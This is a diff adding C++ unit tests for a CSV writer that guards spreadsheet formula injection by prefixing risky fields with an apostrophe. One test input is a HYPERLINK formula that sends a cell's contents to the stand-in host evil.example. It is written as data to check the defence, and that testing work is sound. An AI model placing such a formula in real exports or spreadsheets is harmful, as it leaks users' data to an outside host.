@@ -4,6 +4,7 @@
 
 #include <limits>
 #include <string>
+#include <string_view>
 
 namespace stickyproxy::backend {
 namespace {
@@ -37,6 +38,38 @@ TEST_CASE("numbers use the shortest text that reads back exactly", "[data]") {
   CHECK(written(-0.0) == "0");
   CHECK(written(-1.25) == "-1.25");
   CHECK(written(std::numeric_limits<double>::quiet_NaN()).empty());
+}
+
+TEST_CASE("text a spreadsheet would run as a formula gets a leading apostrophe", "[data]") {
+  const auto written = [](std::string_view text) {
+    CsvWriter csv;
+    csv.field(text);
+    return csv.text();
+  };
+  CHECK(written("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")") ==
+        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
+  CHECK(written("-5 North") == "'-5 North");
+  CHECK(written("+234 Road") == "'+234 Road");
+  CHECK(written("@SUM(A1:A9)") == "'@SUM(A1:A9)");
+  CHECK(written("\t=1+1") == "'\t=1+1");
+  CHECK(written("\r=1+1") == "\"'\r=1+1\"");
+  CHECK(written("=") == "'=");
+  // Only the first character counts.
+  CHECK(written("Gwale-North") == "Gwale-North");
+  CHECK(written("a=b") == "a=b");
+  CHECK(written(" =1") == " =1");
+  CHECK(written("'quoted") == "'quoted");
+  CHECK(written("") == "");
+}
+
+TEST_CASE("numbers are never guarded, negative ones included", "[data]") {
+  CsvWriter csv;
+  csv.field("-5 North");
+  csv.number(-5.0);
+  csv.number(-0.25);
+  csv.number(-1e-10);
+  csv.endRow();
+  CHECK(csv.text() == "'-5 North,-5,-0.25,-1e-10\r\n");
 }
 
 }  // namespace
